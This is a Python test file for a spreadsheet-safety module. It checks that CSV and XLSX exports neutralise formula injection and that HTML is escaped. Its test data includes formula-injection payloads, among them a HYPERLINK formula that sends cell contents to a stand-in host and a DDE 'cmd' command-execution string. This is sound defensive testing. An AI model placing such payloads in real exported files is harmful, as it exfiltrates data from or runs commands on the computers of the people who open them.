"""Tests for carekpi.base.safety: formula-injection neutralisation and HTML escaping."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from carekpi.base.safety import FORMULA_TRIGGERS, csv_safe, html_escape, set_cell_text

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+44 20 7946 0000",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "\n=1",
    "=cmd|' /C calc'!A0",
    "#N/A",
]


@pytest.mark.parametrize("text", [t for t in DANGEROUS if t.startswith(FORMULA_TRIGGERS)])
def test_csv_safe_prefixes_formula_like_strings(text: str) -> None:
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Provider A", "1-2", "a=b", " =1", "'=already", "#N/A", "café"])
def test_csv_safe_leaves_harmless_strings(text: str) -> None:
    assert csv_safe(text) == text


@pytest.mark.parametrize("value", [-1, -2.5, 0, 3, Decimal("-1.50"), float("-inf"), True, None, date(2024, 1, 1)])
def test_csv_safe_leaves_non_strings_unchanged(value: object) -> None:
    out = csv_safe(value)
    assert out is value or out == value
    assert type(out) is type(value)


@given(st.text())
def test_csv_safe_output_never_starts_with_a_trigger(text: str) -> None:
    out = csv_safe(text)
    assert not out.startswith(FORMULA_TRIGGERS)
    assert out.endswith(text)


def test_csv_safe_round_trip_through_csv_module() -> None:
    buf = io.StringIO()
    csv.writer(buf).writerow([csv_safe(v) for v in ["=1+1", -5, "ok"]])
    assert buf.getvalue().splitlines()[0] == "'=1+1,-5,ok"


def test_html_escape_is_html_escape() -> None:
    assert html_escape('<script>alert("x")</script>&\'') == (
        "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&amp;&#x27;"
    )


def _round_trip(tmp_path: Path, values: list[object]) -> list[tuple[object, str]]:
    """Write values with set_cell_text, save, reload; return (value, data_type) per cell."""
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    for row, value in enumerate(values, start=1):
        set_cell_text(ws.cell(row=row, column=1), value)
    path = tmp_path / "out.xlsx"
    wb.save(path)
    back = openpyxl.load_workbook(path).active
    assert back is not None
    return [(back.cell(row=r, column=1).value, back.cell(row=r, column=1).data_type) for r in range(1, len(values) + 1)]


def test_set_cell_text_keeps_formula_like_text_as_text(tmp_path: Path) -> None:
    texts = [*DANGEROUS, "plain", "=", "'=already quoted"]
    for (value, kind), text in zip(_round_trip(tmp_path, list(texts)), texts, strict=True):
        assert kind == "s", text
        # XML parsing normalises a bare CR to LF; the text is otherwise intact.
        assert value == text.replace("\r", "\n")


def test_set_cell_text_never_writes_a_formula_element(tmp_path: Path) -> None:
    import zipfile

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    set_cell_text(ws["A1"], "=SUM(1,2)")
    path = tmp_path / "out.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    assert b"=SUM(1,2)" in sheet


def test_set_cell_text_sets_quote_prefix_for_formula_like_text() -> None:
    ws = openpyxl.Workbook().active
    assert ws is not None
    set_cell_text(ws["A1"], "=1+1")
    set_cell_text(ws["A2"], "plain")
    assert ws["A1"].quotePrefix is True
    assert not ws["A2"].quotePrefix


def test_set_cell_text_numbers_stay_numbers(tmp_path: Path) -> None:
    values: list[object] = [-5, 3.25, Decimal("-1.5"), 0]
    got = _round_trip(tmp_path, values)
    assert [v for v, _ in got] == [-5, 3.25, -1.5, 0]
    assert all(kind == "n" for _, kind in got)


def test_set_cell_text_other_values(tmp_path: Path) -> None:
    got = _round_trip(tmp_path, [datetime(2024, 4, 1, 9, 30), True, None])
    assert got[0][0] == datetime(2024, 4, 1, 9, 30)
    assert got[1] == (True, "b")
    assert got[2][0] is None


def test_set_cell_text_replaces_characters_xlsx_cannot_hold(tmp_path: Path) -> None:
    [(value, kind)] = _round_trip(tmp_path, ["a\x00b\x1fc\td"])
    assert kind == "s"
    assert value == "a\ufffdb\ufffdc\td"
